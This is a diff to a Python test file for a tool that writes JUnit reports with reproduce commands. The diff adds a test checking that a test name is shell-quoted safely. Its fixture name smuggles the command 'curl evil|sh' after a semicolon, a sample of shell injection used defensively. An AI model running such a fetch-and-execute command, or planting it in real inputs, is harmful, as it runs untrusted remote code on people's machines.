@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import dataclasses
 import itertools
+import shlex
 from pathlib import Path
 
 import pytest
@@ -70,6 +71,18 @@ def test_a_red_case_tells_what_happened_and_how_to_see_it_again() -> None:
     assert "patched: timeout" in text
     assert "line two" in text
     assert "/r/jobs/patched/reproduce.sh worse" in text
+
+
+def test_what_is_pasted_into_a_shell_runs_nothing_else() -> None:
+    name = "p.x; curl evil|sh #\x07 it's"
+    base, patched = (
+        fixture.job(side, (TestResult(name, status),), directory=Path("/r/my jobs"))
+        for side, status in ((Side.BASE, Status.PASS), (Side.PATCHED, Status.FAIL))
+    )
+    root = read(junit.render(fixture.run(fixture.series(base, patched))))
+    (text,) = (found.text for found in root.iter("failure") if "reproduce: " in (found.text or ""))
+    command = text.partition("reproduce: ")[2]
+    assert shlex.split(command) == ["/r/my jobs/reproduce.sh", "p.x; curl evil|sh # it's"]
 
 
 def test_control_bytes_are_gone_and_the_text_is_not() -> None:
